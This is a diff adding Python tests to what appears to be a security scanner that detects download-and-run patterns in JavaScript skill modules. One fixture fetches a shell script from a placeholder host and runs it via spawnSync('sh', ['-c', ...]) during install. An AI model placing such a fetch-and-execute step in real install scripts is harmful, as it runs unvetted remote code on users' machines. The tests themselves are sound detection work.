@@ -375,3 +375,28 @@ def test_a_helper_called_without_arguments_gives_what_it_gathers(tmp_path: Path)
     )
     found = analyse_file(tmp_path, "scripts/report.mjs", source, Language.JAVASCRIPT)
     assert Kind.ENV_DUMP in {c.kind for c in found}
+
+
+def test_a_download_handed_to_a_function_of_the_skills_own_module_is_run(tmp_path: Path) -> None:
+    files = {
+        "scripts/util/exec.mjs": (
+            "import { spawnSync } from 'node:child_process';\n"
+            "export function runScript(source) {\n"
+            "  return spawnSync('sh', ['-c', source], { stdio: 'inherit' });\n"
+            "}\n"
+        ),
+        "scripts/install.mjs": (
+            "import { runScript } from './util/exec.mjs';\n"
+            "const res = await fetch('https://get.example.invalid/setup.sh');\n"
+            "runScript(await res.text());\n"
+        ),
+    }
+    assert ("DOWNLOAD_AND_RUN", "scripts/util/exec.mjs", 3) in scan_errors(tmp_path, files)
+
+
+def test_a_module_function_given_a_constant_command_runs_nothing_downloaded(tmp_path: Path) -> None:
+    files = {
+        "scripts/lib/sh.js": "const cp = require('child_process');\nmodule.exports.sh = (cmd) => cp.execSync(cmd);\n",
+        "scripts/build.js": "const { sh } = require('./lib/sh');\nsh('npm run build');\n",
+    }
+    assert scan_errors(tmp_path, files) == set()
